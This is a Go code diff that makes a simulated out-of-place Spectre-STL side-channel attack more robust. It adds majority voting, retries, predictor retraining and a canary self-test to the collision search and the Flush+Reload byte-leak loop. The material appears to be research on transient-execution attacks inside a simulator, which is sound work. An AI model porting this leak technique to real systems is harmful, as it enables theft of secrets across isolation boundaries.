@@ -64,6 +64,17 @@ type STLOptions struct {
 	// MaxInstrStep slides at instruction granularity when true (cheaper)
 	// instead of byte granularity.
 	InstrStep bool
+	// Votes is how many independent recoveries each byte gets; the majority
+	// wins (ties break toward the smaller value). 1 keeps the
+	// single-reading behavior; raise it under fault injection, where an
+	// evicted probe line can fake or mask one Flush+Reload hit. 0 picks
+	// automatically: 1 on a quiet machine, 3 when the config's fault plan
+	// injects machine noise.
+	Votes int
+	// Retries is how many extra attempts a reading with no probe hit gets
+	// before counting as zero; each retry retrains the predictor harder (one
+	// extra aliasing run per attempt). 0 means the default of 1 retry.
+	Retries int
 }
 
 // stlShardBytes is the fixed shard width of the parallel leak: shard count
@@ -120,6 +131,18 @@ func spectreSTLShard(cfg kernel.Config, secret []byte, opts STLOptions, lo, hi i
 	if opts.SliderPages == 0 {
 		opts.SliderPages = 16
 	}
+	if opts.Votes == 0 && cfg.Faults.MachineActive() {
+		// A fault plan without an explicit vote count gets the robust
+		// profile by default; pass Votes: 1 to keep the fragile single
+		// reading on a noisy machine anyway.
+		opts.Votes = 3
+	}
+	if opts.Retries == 0 {
+		opts.Retries = 1
+		if opts.Votes > 1 {
+			opts.Retries = 3
+		}
+	}
 	res := Result{Name: "out-of-place spectre-stl", Secret: secret[lo:hi]}
 
 	l := revng.NewLab(cfg)
@@ -150,9 +173,35 @@ func spectreSTLShard(cfg kernel.Config, secret []byte, opts STLOptions, lo, hi i
 		l.K.Run(p, stlVictimVA, 0)
 	}
 
+	// leakVia is one transient read through the collider: retrain PSF
+	// through the attacker's own pair (drain to a known state, one hard
+	// retrain (G), then aliasing runs until predictive forwarding is
+	// enabled — C1 below 12; extra runs retrain harder), trigger the
+	// victim with the chosen forwarded value x, and recover the encoded
+	// byte with Flush+Reload.
+	exclude := map[int]bool{0: true} // ld1 keeps array2[0] hot
+	var collider *revng.Stld
+	leakVia := func(x uint64, extraTrain int) (int, bool) {
+		drainUntilFast(collider, 60)
+		for j := 0; j < 7+extraTrain; j++ {
+			collider.Run(true)
+		}
+		fr.FlushAll()
+		p.Write64(stlArray2VA, 0)
+		runVictim(x, stlStoreIdx, true)
+		return fr.Recover(exclude)
+	}
+
 	// Phase 1 — collision finding: one aliasing victim run trains the
 	// victim pair to predict aliasing (C0=4); sliding probes stall exactly
 	// when both hashed IPAs match.
+	//
+	// The robust profile (Votes > 1) hardens the search against co-resident
+	// noise: the victim pair is retrained periodically (an evicted PSFP
+	// entry silently hides the true collision), every stall must pass a
+	// canary self-test (a spuriously trained entry stalls a probe at the
+	// wrong offset, and a false collider poisons the whole leak phase), and
+	// an exhausted window is rescanned from the top.
 	p.Write64(stlArray2VA, 0)
 	runVictim(0, 0, true) // idx=0: the store aliases ld1 -> type G trains C0
 	step := 1
@@ -160,13 +209,47 @@ func spectreSTLShard(cfg kernel.Config, secret []byte, opts STLOptions, lo, hi i
 		step = isa.InstBytes
 	}
 	slider := l.NewSlider(p, opts.SliderPages, asm.BuildStld(asm.StldOptions{}))
-	var collider *revng.Stld
-	for at := 0; at+len(slider.Tmpl().Code) < slider.MaxOffsets(); at += step {
-		res.CollisionAttempts++
-		probe := slider.Place(at)
-		if probe.Run(false).Class == revng.ClassStall {
+	robust := opts.Votes > 1
+	const canaryOff, canaryVal = 64, 0xa5
+	passes := 1
+	if robust {
+		p.WriteBytes(stlArray1VA+canaryOff, []byte{canaryVal})
+		passes = 4
+	}
+	selfTest := func() bool {
+		// Leak a byte the attacker planted itself; only the true collider
+		// steers the victim's transient fetch to it. The context switch
+		// first flushes PSFP — including the victim's self-trained entry,
+		// which the periodic refresh keeps alive and which would otherwise
+		// carry the canary leak for a false collider — so the only entry
+		// left is the one leakVia retrains through the candidate itself.
+		l.Tick()
+		for attempt := 0; attempt < 2; attempt++ {
+			if v, ok := leakVia(canaryOff, attempt); ok && v == canaryVal {
+				return true
+			}
+		}
+		return false
+	}
+	for pass := 0; pass < passes && collider == nil; pass++ {
+		if pass > 0 {
+			runVictim(0, 0, true)
+		}
+		for at := 0; at+len(slider.Tmpl().Code) < slider.MaxOffsets(); at += step {
+			res.CollisionAttempts++
+			if robust && res.CollisionAttempts%64 == 0 {
+				runVictim(0, 0, true) // refresh against entry eviction
+			}
+			probe := slider.Place(at)
+			if probe.Run(false).Class != revng.ClassStall {
+				continue
+			}
 			collider = probe
-			break
+			if !robust || selfTest() {
+				break
+			}
+			collider = nil
+			runVictim(0, 0, true) // the failed self-test drained the training
 		}
 	}
 	if collider == nil {
@@ -175,31 +258,45 @@ func spectreSTLShard(cfg kernel.Config, secret []byte, opts STLOptions, lo, hi i
 		return res
 	}
 
-	// Phase 2 — leak, one byte per victim execution. A byte with no probe
-	// hit is retried once: the first transient walk of a cold page can fall
-	// out of the window (TLB misses), and the retry finds it warm — the
-	// same retry loop real PoCs carry.
-	exclude := map[int]bool{0: true} // ld1 keeps array2[0] hot
-	for i := lo; i < hi; i++ {
+	// Phase 2 — leak, one byte per victim execution. A reading with no probe
+	// hit is retried: the first transient walk of a cold page can fall out
+	// of the window (TLB misses), and the retry finds it warm — the same
+	// retry loop real PoCs carry. Retries retrain one aliasing run harder,
+	// recovering entries a fault plan drained between runs.
+	readByte := func(i int) (byte, bool) {
 		v, ok := 0, false
-		for attempt := 0; attempt < 2 && !ok; attempt++ {
-			// Retrain PSF through the attacker's own pair: drain to a known
-			// state, one hard retrain (G), then aliasing runs until
-			// predictive forwarding is enabled (C1 below 12).
-			drainUntilFast(collider, 60)
-			for j := 0; j < 7; j++ {
-				collider.Run(true)
-			}
-			fr.FlushAll()
-			p.Write64(stlArray2VA, 0)
-			x := stlSecretVA + uint64(i) - stlArray1VA
-			runVictim(x, stlStoreIdx, true)
-			v, ok = fr.Recover(exclude)
+		for attempt := 0; attempt <= opts.Retries && !ok; attempt++ {
+			v, ok = leakVia(stlSecretVA+uint64(i)-stlArray1VA, attempt)
 		}
 		if !ok {
 			v = 0 // no hit outside the polluted slot: the byte was zero
 		}
-		res.Leaked = append(res.Leaked, byte(v))
+		return byte(v), ok
+	}
+	for i := lo; i < hi; i++ {
+		if opts.Votes <= 1 {
+			b, _ := readByte(i)
+			res.Leaked = append(res.Leaked, b)
+			continue
+		}
+		// Majority over the votes that actually saw a hit: a spuriously
+		// trained SSBP entry on a victim load can suppress the transient
+		// window for a dozen consecutive runs (it drains one step per
+		// victim execution), so silent votes are the common failure and
+		// must not outvote a real reading. A byte with no hit in any vote
+		// reads as zero — slot 0 is architecturally excluded, so genuine
+		// zero bytes only ever arrive through the no-hit path.
+		var votes []byte
+		for v := 0; v < opts.Votes; v++ {
+			if b, ok := readByte(i); ok {
+				votes = append(votes, b)
+			}
+		}
+		if len(votes) == 0 {
+			res.Leaked = append(res.Leaked, 0)
+			continue
+		}
+		res.Leaked = append(res.Leaked, majorityByte(votes))
 	}
 	res.Cycles = l.K.CPU(0).Core.Cycle() - startCycles
 	finalize(&res)
